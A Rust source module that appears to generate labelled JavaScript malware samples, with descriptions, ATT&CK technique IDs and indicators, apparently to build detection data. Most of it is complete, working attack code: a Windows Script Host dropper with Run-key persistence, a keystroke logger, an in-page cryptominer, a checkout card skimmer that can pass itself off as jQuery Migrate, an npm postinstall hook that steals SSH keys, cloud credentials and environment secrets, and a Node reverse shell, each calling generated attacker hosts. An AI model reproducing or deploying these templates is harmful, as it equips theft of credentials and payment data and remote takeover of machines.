//! JavaScript: attacker tooling families (WSH droppers, skimmers, Node implants).

use rand::Rng;

use super::javascript::banner;
use super::names::{self, fill, pick, R};
use super::{Draft, Family};

pub(crate) const FAMILIES: &[Family] = &[
    Family {
        name: "wsh-dropper",
        description: "A Windows Script Host dropper that downloads and runs an executable",
        gen: wsh_dropper,
    },
    Family {
        name: "browser-keylogger",
        description: "A browser keylogger that records keystrokes and beacons them out",
        gen: keylogger,
    },
    Family {
        name: "cryptojacker",
        description: "In-page cryptojacking code that mines with visitors' CPUs",
        gen: cryptojacker,
    },
    Family {
        name: "form-grabber",
        description: "A card and credential skimmer injected into checkout pages",
        gen: form_grabber,
    },
    Family {
        name: "npm-postinstall-stealer",
        description: "A package install hook that steals environment secrets and SSH keys",
        gen: npm_stealer,
    },
    Family {
        name: "reverse-shell",
        description: "A reverse shell that hands an interactive shell to a remote operator",
        gen: node_reverse_shell,
    },
];

fn wsh_dropper(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let path = names::url_path(r);
    let name = names::stealth_name(r);
    let url = format!("http://{host}{path}");
    let decoy = pick(
        r,
        &[
            "Invoice_8841.pdf",
            "Scan_0032.pdf",
            "Order_Confirmation.docx",
            "Payment_Receipt.pdf",
        ],
    );
    let mut c = String::new();
    if r.random_bool(0.5) {
        c.push_str(&format!("// {decoy}\n"));
    }
    c.push_str(&fill(
        r#"var sh = new ActiveXObject('WScript.Shell');
var fso = new ActiveXObject('Scripting.FileSystemObject');
var tmp = sh.ExpandEnvironmentStrings('%TEMP%');
var target = tmp + '\\@NAME@.exe';

function download(u, dest) {
  var x = new ActiveXObject('MSXML2.XMLHTTP');
  x.open('GET', u, false);
  x.setRequestHeader('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)');
  x.send();
  if (x.status != 200) return false;
  var s = new ActiveXObject('ADODB.Stream');
  s.Type = 1;
  s.Open();
  s.Write(x.responseBody);
  s.SaveToFile(dest, 2);
  s.Close();
  return true;
}

try {
  if (download('@URL@', target)) {
    sh.Run('"' + target + '"', 0, false);
    sh.RegWrite('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\@NAME@', target, 'REG_SZ');
  }
} catch (e) {}
try { fso.DeleteFile(WScript.ScriptFullName, true); } catch (e) {}
"#,
        &[("NAME", name), ("URL", &url)],
    ));
    Draft {
        content: c,
        purpose: format!("downloads {name}.exe from {host} through Windows Script Host, runs it hidden and makes it persistent"),
        steps: vec![
            "creates WScript.Shell and Scripting.FileSystemObject ActiveX objects and resolves %TEMP%".into(),
            format!("downloads {url} with a synchronous MSXML2.XMLHTTP GET and a spoofed browser User-Agent"),
            format!("writes the response body to %TEMP%\\{name}.exe with an ADODB.Stream"),
            "runs the file with a hidden window through sh.Run and writes it to the HKCU Run key with RegWrite".into(),
            "deletes its own script file through WScript.ScriptFullName".into(),
        ],
        effects: vec![format!("Opening the file, typically mailed as an attachment such as {decoy}, installs and persists the executable from {host}.")],
        behaviours: vec![
            "Executes JScript through Windows Script Host (T1059.007)".into(),
            "Downloads a payload (T1105)".into(),
            "Persists via registry Run keys (T1547.001)".into(),
        ],
        iocs: vec![url, "ADODB.Stream".into(), format!("{name}.exe")],
    }
}

fn keylogger(r: &mut R) -> Draft {
    let host = names::c2_domain(r);
    let every = r.random_range(3..30);
    let v = names::camel(r);
    let mut c = String::new();
    c.push_str(&fill(
        r#"(function () {
  var @V@ = [];
  var endpoint = 'https://@HOST@/collect.gif';

  document.addEventListener('keydown', function (e) {
    var t = e.target || {};
    @V@.push({ k: e.key, f: t.name || t.id || t.type, u: location.href, ts: Date.now() });
  }, true);

  function flush() {
    if (!@V@.length) return;
    var payload = btoa(unescape(encodeURIComponent(JSON.stringify(@V@))));
    @V@ = [];
    new Image().src = endpoint + '?c=' + document.cookie.length + '&d=' + encodeURIComponent(payload);
  }

  setInterval(flush, @EVERY@ * 1000);
  window.addEventListener('beforeunload', function () {
    navigator.sendBeacon(endpoint, JSON.stringify(@V@));
  });
})();
"#,
        &[("V", &v), ("HOST", &host), ("EVERY", &every.to_string())],
    ));
    Draft {
        content: c,
        purpose: format!("records every keystroke on the page and sends them to {host}"),
        steps: vec![
            "registers a capture-phase keydown listener on document".into(),
            "stores each key with the field name or id, the page URL and a timestamp in an array".into(),
            format!("every {every} seconds base64-encodes the buffer with btoa and sends it as a query string of an image request to https://{host}/collect.gif"),
            "flushes the rest with navigator.sendBeacon when the page unloads".into(),
        ],
        effects: vec!["Passwords, card numbers and messages typed into the page are disclosed to a third party.".into()],
        behaviours: vec![
            "Captures keystrokes (T1056.001)".into(),
            "Exfiltrates over HTTPS (T1041)".into(),
        ],
        iocs: vec![format!("https://{host}/collect.gif"), "sendBeacon".into()],
    }
}

fn cryptojacker(r: &mut R) -> Draft {
    let host = names::c2_domain(r);
    let wallet = names::wallet(r);
    let throttle = pick(r, &["0.2", "0.3", "0.5", "0.1"]);
    let mut c = fill(
        r#"(function () {
  if (navigator.hardwareConcurrency < 2 || /bot|crawl|spider/i.test(navigator.userAgent)) return;
  var s = document.createElement('script');
  s.src = 'https://@HOST@/lib/cn.min.js';
  s.async = true;
  s.onload = function () {
    var threads = Math.max(1, navigator.hardwareConcurrency - 1);
    var miner = new window.CryptoLoot.Anonymous('@WALLET@', {
      threads: threads,
      throttle: @THROTTLE@,
      autoThreads: false,
      forceASMJS: false
    });
    if (!miner.isMobile()) miner.start();
    document.addEventListener('visibilitychange', function () {
      if (document.hidden) miner.setThrottle(0); else miner.setThrottle(@THROTTLE@);
    });
  };
  document.head.appendChild(s);
})();
"#,
        &[("HOST", &host), ("WALLET", &wallet), ("THROTTLE", throttle)],
    );
    if r.random_bool(0.5) {
        c = format!("{}{c}", banner(r, "analytics"));
    }
    Draft {
        content: c,
        purpose: format!("loads an in-browser Monero miner from {host} and runs it with the visitor's CPU"),
        steps: vec![
            "skips machines with fewer than two cores and crawler user agents".into(),
            format!("injects a script tag for https://{host}/lib/cn.min.js"),
            format!("starts a CryptoLoot miner for a hard-coded wallet with hardwareConcurrency minus one threads and throttle {throttle}"),
            "mines at full speed while the tab is hidden by changing the throttle on visibilitychange".into(),
        ],
        effects: vec!["Visitors' devices slow down, heat up and drain battery while hashes are credited to the wallet owner.".into()],
        behaviours: vec!["Hijacks resources for cryptomining (T1496)".into()],
        iocs: vec![format!("https://{host}/lib/cn.min.js"), "CryptoLoot".into()],
    }
}

fn form_grabber(r: &mut R) -> Draft {
    let host = names::c2_domain(r);
    let path = names::url_path(r);
    let key = names::token(r, 8);
    let mut c = fill(
        r#"var _g = {
  gate: 'https://@HOST@@PATH@',
  sent: false,
  grab: function () {
    var data = { site: location.hostname };
    var fields = document.querySelectorAll('input, select');
    for (var i = 0; i < fields.length; i++) {
      var f = fields[i];
      if (f.value && f.value.length > 0) data[f.name || f.id] = f.value;
    }
    return data;
  },
  send: function (data) {
    var x = new XMLHttpRequest();
    x.open('POST', this.gate, true);
    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    x.send('k=@KEY@&d=' + encodeURIComponent(btoa(JSON.stringify(data))));
  }
};

if (/checkout|payment|onepage|login/.test(location.pathname)) {
  document.addEventListener('click', function (e) {
    var b = e.target.closest('button, input[type=submit]');
    if (!b || _g.sent) return;
    var d = _g.grab();
    if (d['cc_number'] || d['payment[cc_number]'] || d['password']) {
      _g.send(d);
      _g.sent = true;
    }
  }, true);
}
"#,
        &[("HOST", &host), ("PATH", &path), ("KEY", &key)],
    );
    if r.random_bool(0.4) {
        c = format!("/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation */\n{c}");
    }
    Draft {
        content: c,
        purpose: format!("skims card numbers and passwords from checkout and login pages and posts them to {host}"),
        steps: vec![
            "activates only on paths containing checkout, payment, onepage or login".into(),
            "listens for clicks on submit buttons in the capture phase".into(),
            "collects every non-empty input and select value keyed by field name".into(),
            format!("posts the base64 JSON with the campaign key {key} to https://{host}{path} through XMLHttpRequest once a card number or password field is present"),
        ],
        effects: vec!["Customers' payment card data and credentials are copied to an outside server while the order completes normally.".into()],
        behaviours: vec![
            "Captures web form input (T1056.003)".into(),
            "Exfiltrates over HTTPS (T1041)".into(),
        ],
        iocs: vec![format!("https://{host}{path}"), key],
    }
}

fn npm_stealer(r: &mut R) -> Draft {
    let host = names::c2_domain(r);
    let pkg = format!(
        "{}-{}",
        names::word(r),
        pick(r, &["utils", "helper", "core", "config"])
    );
    let mut c = fill(
        r#"// postinstall hook for @PKG@
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');

function tryRead(p) {
  try { return fs.readFileSync(p, 'utf8'); } catch (e) { return null; }
}

const home = os.homedir();
const loot = {
  host: os.hostname(),
  user: os.userInfo().username,
  platform: process.platform,
  env: process.env,
  npmrc: tryRead(path.join(home, '.npmrc')),
  ssh: tryRead(path.join(home, '.ssh', 'id_rsa')),
  aws: tryRead(path.join(home, '.aws', 'credentials')),
  git: (() => { try { return execSync('git config --global --list').toString(); } catch (e) { return null; } })()
};

const body = Buffer.from(JSON.stringify(loot)).toString('base64');
const req = https.request({ hostname: '@HOST@', port: 443, path: '/api/v2/telemetry', method: 'POST',
  headers: { 'Content-Type': 'text/plain', 'Content-Length': Buffer.byteLength(body) } }, () => {});
req.on('error', () => {});
req.write(body);
req.end();
"#,
        &[("PKG", &pkg), ("HOST", &host)],
    );
    if r.random_bool(0.3) {
        c.push_str("setTimeout(() => process.exit(0), 1500);\n");
    }
    Draft {
        content: c,
        purpose: format!("runs as the npm postinstall hook of the package {pkg} and uploads the developer's secrets to {host}"),
        steps: vec![
            "gathers the host name, user name, platform and the entire process.env".into(),
            "reads ~/.npmrc, ~/.ssh/id_rsa and ~/.aws/credentials when present".into(),
            "captures git config --global --list through child_process.execSync".into(),
            format!("base64-encodes the collection and sends it with https.request POST to {host}/api/v2/telemetry, silently ignoring errors"),
        ],
        effects: vec!["Installing the package leaks npm tokens, SSH private keys and cloud credentials of the developer or CI runner.".into()],
        behaviours: vec![
            "Supply-chain compromise via install hook (T1195.002)".into(),
            "Steals credentials from files (T1552.001)".into(),
            "Exfiltrates over HTTPS (T1041)".into(),
        ],
        iocs: vec![host, "/api/v2/telemetry".into(), ".aws".into()],
    }
}

fn node_reverse_shell(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let port = names::c2_port(r);
    let delay = r.random_range(5..60);
    let c = fill(
        r#"const net = require('net');
const { spawn } = require('child_process');
const os = require('os');

function connect() {
  const sock = new net.Socket();
  sock.connect(@PORT@, '@HOST@', () => {
    const sh = spawn(os.platform() === 'win32' ? 'cmd.exe' : '/bin/sh', [], { windowsHide: true });
    sock.write(`${os.hostname()} ${os.userInfo().username}\n`);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.destroy());
  });
  sock.on('error', () => {});
  sock.on('close', () => setTimeout(connect, @DELAY@ * 1000));
}

connect();
"#,
        &[
            ("HOST", &host),
            ("PORT", &port.to_string()),
            ("DELAY", &delay.to_string()),
        ],
    );
    Draft {
        content: c,
        purpose: format!("opens a Node.js reverse shell to {host} on port {port}"),
        steps: vec![
            format!("connects a net.Socket to {host}:{port}"),
            "spawns cmd.exe on Windows or /bin/sh elsewhere with child_process.spawn and a hidden window".into(),
            "announces the host and user name, then pipes the socket into the shell's stdin and its stdout and stderr back".into(),
            format!("reconnects {delay} seconds after every disconnect"),
        ],
        effects: vec![format!("The operator at {host} gets interactive command execution with the Node process's privileges.")],
        behaviours: vec![
            "Creates a reverse shell (T1059.007)".into(),
            names::port_behaviour(port),
        ],
        iocs: vec![host, port.to_string()],
    }
}
